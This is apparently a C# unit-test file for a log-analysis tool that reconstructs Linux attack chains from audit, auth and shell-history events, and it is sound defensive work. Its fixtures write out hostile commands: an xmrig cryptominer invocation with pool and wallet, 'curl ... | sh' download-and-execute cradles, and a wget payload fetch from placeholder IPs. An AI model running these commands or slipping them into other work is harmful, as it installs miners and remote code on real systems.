using System.Globalization;
using Timeline.Core.Events;
using Timeline.Core.Findings;
using Timeline.Core.Vocabulary;
using Timeline.Detection.Chain;
using Timeline.Tests.Support;
using Xunit;

namespace Timeline.Tests.Detection.Chain;

/// <summary>
/// Audit executions in the chain (issue 13): each <c>audit_exec</c> command is read like a history line,
/// exactly timed, attributed to the login uid (which survives <c>sudo su</c>) or the session; parent links
/// make a network service starting a shell an exploited-service entry; a history line the audit log also
/// recorded is told once. Events are shaped as <c>linux/audit</c> emits them (fields of the joined SYSCALL +
/// EXECVE records, <c>user</c> = the auid number of a RAW log).
/// </summary>
public sealed class AuditChainTests
{
    private static readonly ChainOptions Options = new() { Knowledge = ChainKnowledge.Load(RepoPaths.Sigma) };
    private static readonly Dictionary<string, List<RuleMatch>> NoMatches = [];
    private const string Unset = "4294967295";
    private const string Miner = "/tmp/.x/xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD --donate-level=0";

    private static IReadOnlyList<AttackChain> Build(ChainEvents ev) => ChainBuilder.Build(ev.Events, NoMatches, Options);

    /// <summary>An execve as linux/audit joins it: SYSCALL fields, the decoded argv as <c>command</c>, <c>user</c> = auid when set, else uid.</summary>
    private static EventRecord Exec(ChainEvents ev, double minutes, int pid, int ppid, string auid, string uid, string ses, string exe, string comm, string command)
    {
        var args = command.Split(' ');
        var fields = new List<(string, string)>
        {
            (FieldNames.Event, AuditEvents.Exec), (AuditFieldNames.Type, "SYSCALL"), ("syscall.type", "SYSCALL"), ("execve.type", "EXECVE"),
            (AuditFieldNames.Syscall, "execve"), (FieldNames.Pid, pid.ToString(CultureInfo.InvariantCulture)), (FieldNames.Ppid, ppid.ToString(CultureInfo.InvariantCulture)),
            (AuditFieldNames.Auid, auid), (FieldNames.Uid, uid), (AuditFieldNames.Euid, uid), (AuditFieldNames.Session, ses),
            (AuditFieldNames.Comm, comm), (FieldNames.Exe, exe), (FieldNames.Command, command), (AuditFieldNames.Argc, args.Length.ToString(CultureInfo.InvariantCulture)),
            (FieldNames.User, auid != Unset ? auid : uid),
        };
        for (var i = 0; i < args.Length; i++) fields.Add(("a" + i.ToString(CultureInfo.InvariantCulture), args[i]));
        return ev.Add("web01", ParserNames.Audit, minutes, $"type=SYSCALL msg=audit(…): syscall=59 ppid={ppid} pid={pid} auid={auid} uid={uid} ses={ses} comm=\"{comm}\" exe=\"{exe}\"", [.. fields]);
    }

    /// <summary>alice logs in with a key; PAM names her uid, logind numbers the session.</summary>
    private static void AliceLogsIn(ChainEvents ev, double minutes, string session = "12", bool logind = true)
    {
        ev.Accepted("web01", minutes, "alice", "198.51.100.60", "publickey", "SHA256:alice", "4242");
        ev.Add("web01", ParserNames.Auth, minutes + 0.001, "pam_unix(sshd:session): session opened for user alice(uid=1000) by alice(uid=0)",
            (FieldNames.Event, AuthEvents.SessionOpen), (FieldNames.User, "alice"), (FieldNames.Uid, "1000"), (FieldNames.Pid, "4242"));
        if (logind)
            ev.Add("web01", ParserNames.Auth, minutes + 0.002, $"New session {session} of user alice.",
                (FieldNames.Event, AuthEvents.LogindNewSession), (FieldNames.SessionId, session), (FieldNames.User, "alice"));
    }

    [Fact]
    public void AMinerRunAfterSudoSuIsTheLoginUsersStep()
    {
        var ev = new ChainEvents();
        AliceLogsIn(ev, 0);
        Exec(ev, 1, 5001, 4250, "1000", "1000", "12", "/usr/bin/sudo", "sudo", "sudo su");
        Exec(ev, 1.2, 5010, 5005, "1000", "0", "12", "/tmp/.x/xmrig", "xmrig", Miner);
        var chain = Assert.Single(Build(ev));
        var mining = Assert.Single(chain.Steps, s => s.Phase == AttackPhase.Mining);
        Assert.Contains("audit: alice (session 12)", mining.Summary, StringComparison.Ordinal);
        Assert.Equal(TimeQuality.Exact, mining.TimeQuality);
        Assert.Equal(ChainEvents.T0.AddMinutes(1.2).Ticks, chain.MiningStartTicks);
        Assert.Equal("alice", chain.Entry!.User);
        Assert.Equal(ChainEvents.T0.Ticks, chain.Entry.Ticks);
        var users = chain.Indicators.Where(i => i.Type == "user").Select(i => i.Value).ToList();
        Assert.Contains("alice", users);
        Assert.DoesNotContain("root", users);
    }

    [Fact]
    public void WithoutASessionLinkTheAuidIsNamedByPam()
    {
        var ev = new ChainEvents();
        AliceLogsIn(ev, 0, logind: false);
        Exec(ev, 1.2, 5010, 5005, "1000", "0", "31", "/tmp/.x/xmrig", "xmrig", Miner);
        var mining = Assert.Single(Assert.Single(Build(ev)).Steps, s => s.Phase == AttackPhase.Mining);
        Assert.Contains("audit: alice (session 31)", mining.Summary, StringComparison.Ordinal);
    }

    [Fact]
    public void AnAuditLoginNamesItsAuid()
    {
        var ev = new ChainEvents();
        ev.Add("web01", ParserNames.Audit, 0, "type=USER_LOGIN msg=audit(…): pid=4242 uid=0 auid=1001 ses=40 msg='op=login acct=\"bob\" exe=\"/usr/sbin/sshd\" addr=198.51.100.61 res=success'",
            (FieldNames.Event, AuditEvents.Login), (AuditFieldNames.Type, "USER_LOGIN"), (AuditFieldNames.Auid, "1001"), (AuditFieldNames.Session, "40"),
            (AuditFieldNames.Account, "bob"), (FieldNames.User, "bob"), (AuditFieldNames.Success, "yes"), (FieldNames.SrcIp, "198.51.100.61"));
        Exec(ev, 1, 6000, 5999, "1001", "0", "40", "/tmp/.x/xmrig", "xmrig", Miner);
        var mining = Assert.Single(Assert.Single(Build(ev)).Steps, s => s.Phase == AttackPhase.Mining);
        Assert.Contains("audit: bob", mining.Summary, StringComparison.Ordinal);
    }

    [Fact]
    public void NginxStartingAShellThatDownloadsIsAnExploitedServiceEntry()
    {
        var ev = new ChainEvents();
        Exec(ev, -600, 880, 1, Unset, "0", Unset, "/usr/sbin/nginx", "nginx", "/usr/sbin/nginx -g daemon on; master_process on;");
        // A worker forked from the master is never executed: it is known by its other audited calls.
        ev.Add("web01", ParserNames.Audit, -5, "type=SYSCALL msg=audit(…): syscall=42 ppid=880 pid=881 auid=4294967295 uid=33 comm=\"nginx\" exe=\"/usr/sbin/nginx\"",
            (FieldNames.Event, AuditEvents.Syscall), (AuditFieldNames.Type, "SYSCALL"), (AuditFieldNames.Syscall, "connect"), (FieldNames.Pid, "881"), (FieldNames.Ppid, "880"),
            (AuditFieldNames.Auid, Unset), (FieldNames.Uid, "33"), (AuditFieldNames.Comm, "nginx"), (FieldNames.Exe, "/usr/sbin/nginx"), (FieldNames.User, "33"));
        Exec(ev, 0, 3101, 881, Unset, "33", Unset, "/usr/bin/dash", "sh", "sh -c \"curl -s http://203.0.113.9/x.sh | sh\"");
        Exec(ev, 0.1, 3102, 3101, Unset, "33", Unset, "/usr/bin/curl", "curl", "curl -s http://203.0.113.9/x.sh");
        ev.CronCmd("web01", 5, "www-data", Miner);
        var chain = Assert.Single(Build(ev));
        Assert.Equal(AnalyticKinds.ExploitedService, chain.Entry!.Kind);
        Assert.Contains("'nginx'", chain.Entry.Summary, StringComparison.Ordinal);
        Assert.Contains("'nginx' started a shell or downloader", chain.Entry.Why, StringComparison.Ordinal);
        Assert.Equal(ChainEvents.T0.Ticks, chain.Entry.Ticks);
        Assert.True(chain.Entry.Confidence >= 0.85, chain.Entry.Confidence.ToString(CultureInfo.InvariantCulture));
        var entry = chain.Steps[0];
        Assert.Equal(AttackPhase.Entry, entry.Phase);
        Assert.Contains("T1190", entry.Techniques);
        Assert.Contains("/usr/sbin/nginx", entry.Why, StringComparison.Ordinal);
        // curl's parent is the shell, not the service: no second service-shell finding.
        Assert.DoesNotContain(chain.Steps.Skip(1), s => s.Why.Contains("a network service running a shell", StringComparison.Ordinal));
    }

    [Fact]
    public void AShellWhoseParentIsNotAServiceIsNoExploit()
    {
        var ev = new ChainEvents();
        AliceLogsIn(ev, -1);
        Exec(ev, -0.9, 4300, 4242, "1000", "1000", "12", "/usr/bin/bash", "bash", "-bash");
        Exec(ev, 0, 4301, 4300, "1000", "1000", "12", "/usr/bin/dash", "sh", "sh -c \"curl -s http://203.0.113.9/x.sh | sh\"");
        var chain = Assert.Single(Build(ev));
        Assert.NotEqual(AnalyticKinds.ExploitedService, chain.Entry!.Kind);
    }

    [Fact]
    public void AHistoryLineTheAuditLogRecordedIsOneStepTimedByTheAudit()
    {
        var ev = new ChainEvents();
        ev.Failures("web01", "203.0.113.45", 0, 8, "root");
        ev.Accepted("web01", 2, "root", "203.0.113.45");
        ev.Add("web01", ParserNames.Auth, 2.001, "New session 7 of user root.", (FieldNames.Event, AuthEvents.LogindNewSession), (FieldNames.SessionId, "7"), (FieldNames.User, "root"));
        var history = ev.History("web01", 3, "root", "wget -q http://198.51.100.77/dota3.tar.gz");
        var audit = Exec(ev, 3 + 0.4 / 60, 3050, 3001, "0", "0", "7", "/usr/bin/wget", "wget", "wget -q http://198.51.100.77/dota3.tar.gz");
        // A cradle in history is two executions in the audit log: the history line says more, so it stays.
        var cradle = ev.History("web01", 4, "root", "curl -s http://198.51.100.77/x.sh | sh");
        Exec(ev, 4 + 0.2 / 60, 3060, 3001, "0", "0", "7", "/usr/bin/curl", "curl", "curl -s http://198.51.100.77/x.sh");
        ev.CronCmd("web01", 6, "root", Miner);
        var chain = Assert.Single(Build(ev));
        Assert.DoesNotContain(chain.Steps, s => s.EventId == history.Id);
        var step = Assert.Single(chain.Steps, s => s.EventId == audit.Id);
        Assert.Contains("also in root's shell history", step.Why, StringComparison.Ordinal);
        Assert.Contains("audit: root (session 7)", step.Summary, StringComparison.Ordinal);
        Assert.Contains(chain.Steps, s => s.EventId == cradle.Id);
    }
}
